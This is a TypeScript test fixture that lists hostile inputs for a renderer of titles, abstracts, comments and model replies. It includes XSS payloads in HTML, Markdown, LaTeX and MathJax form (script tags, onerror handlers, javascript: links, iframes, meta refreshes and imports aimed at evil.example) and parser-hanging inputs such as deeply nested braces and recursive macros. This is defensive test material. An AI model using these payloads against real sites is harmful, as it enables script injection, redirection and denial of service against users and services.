/** Texts that try to run, load, cover, escape or hang. What runs would set `window.hacked`; what loads would ask evil.example. */

/** As title, abstract, author, comment or a model's reply. */
export const hostileTexts = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<svg onload=window.hacked=1><style>*{display:none}</style></svg>',
  '</div></article><iframe src="https://evil.example"></iframe><base href="https://evil.example">',
  '<!-- --><a href="javascript:window.hacked=1">x</a>',
  '"><script>window.hacked=1</script>',
  "' onmouseover='window.hacked=1",
  '[x](javascript:window.hacked=1) [y](data:text/html,<script>window.hacked=1</script>) [z](vbscript:x)',
  '![x](https://evil.example/pixel.png) <https://evil.example> [d]: javascript:window.hacked=1',
  '\\href{javascript:window.hacked=1}{x} \\url{javascript:window.hacked=1} \\href{data:text/html,x}{y}',
  '$\\href{javascript:window.hacked=1}{x}$ $\\class{skip}{x}$ $\\cssId{main}{x}$ $\\data{x=1}{y}$',
  '$\\style{position:fixed; inset:0; background:url(https://evil.example/a.png)}{x}$',
  '$\\style{margin:-99em}{x}$ $\\style{width:9999px}{x}$ $\\style{color:red;}{\\style{position:absolute}{x}}$',
  '$\\unicode{x3c}script\\unicode{x3e}$ \\unicode{x202e}txt $\\unicode[evil,serif]{x41}$',
  '$\\require{action}\\toggle{a}{b}\\endtoggle \\mathtip{a}{b} \\texttip{a}{b}$',
  '$\\mmlToken{mi}[href="javascript:window.hacked=1" onclick="window.hacked=1"]{x}$',
  '$\\bbox[border:1px;background:url(https://evil.example)]{x}$ $\\color{red;position:fixed}x$',
  '$\\text{</mjx-tex><script>window.hacked=1</script>}$ $\\text{</math><img src=x onerror=window.hacked=1>}$',
  '$x<script>window.hacked=1</script>$ $$\n</pre><script>window.hacked=1</script>\n$$',
  '$\\def\\alpha{evil}\\alpha$ and then $\\alpha$; \\newcommand{\\beta}{evil} $\\beta$',
  '$\\def\\a{\\a\\a}\\a$ \\def\\b{\\c}\\def\\c{\\b}\\b $\\newcommand{\\x}[1]{\\x{#1#1}}\\x{y}$',
  'import x from "https://evil.example"\n\nexport const hacked = (window.hacked = 1)\n\n{window.hacked = 1} {(() => 1)()}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it has to look like one.
  '<Component {...window} /> <></> {/* comment */} <!-- comment --> {`${window.hacked = 1}`}',
  '---\nid: evil\n---\n\n## Abstract\n\n## FAQ (en)\n\n### Evil question\n\nevil',
  '\\---\n...\n%YAML 1.2\n!!js/function "function(){}"',
  '\u202Emoc.live\u202C \u2066a\u2069 \u200Bzero\uFEFF\u00AD \u0000\u0007\u001B[31m',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62; &amp;lt;b&amp;gt;',
  '`<script>window.hacked=1</script>` ```html\n<script>window.hacked=1</script>\n```',
  '| <b>a</b> |\n| - |\n| <img src=x onerror=window.hacked=1> |',
  '<details open ontoggle=window.hacked=1> <template><script>window.hacked=1</script></template>',
  '<mjx-container><mjx-math style="position:fixed"></mjx-math></mjx-container> <math><mtext></mtext></math>',
  '<style>@import "https://evil.example";</style><link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><form action=https://evil.example><input autofocus onfocus=window.hacked=1>',
]

const many = 12_000

/** Shapes on which a careless parser never ends. */
export const endlessTexts = [
  ...[
    '$',
    '{',
    '}',
    '\\',
    '`',
    '*a',
    '[',
    '[a](',
    '<a ',
    '"',
    "\\'{",
    '\\(',
    '\\url{',
    '~',
    '-',
    '_a_',
    '&#x41;',
    'a\n',
    ' ',
  ],
  ...[
    '\n  ',
    '> ',
    '- ',
    '|a',
    '\\cite{',
    '\\begin{align}',
    '\\begin{itemize}\\item ',
    '\\footnote{',
    'http://a',
    '``',
    '<!--',
  ],
].map((shape) => shape.repeat(many / shape.length))

endlessTexts.push(
  `${'{'.repeat(100_000)}x${'}'.repeat(100_000)}`,
  `$${'{'.repeat(100_000)}x${'}'.repeat(100_000)}$`,
  `$${'x+'.repeat(500_000)}x$`,
  `$${'\\frac{'.repeat(500)}x${'}{y}'.repeat(500)}$`,
  `\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}${'\\a '.repeat(1000)}`,
  `${'\\begin{equation}a\\label{a}\\end{equation}'.repeat(400)}${'\\eqref{a}'.repeat(2000)}`,
)
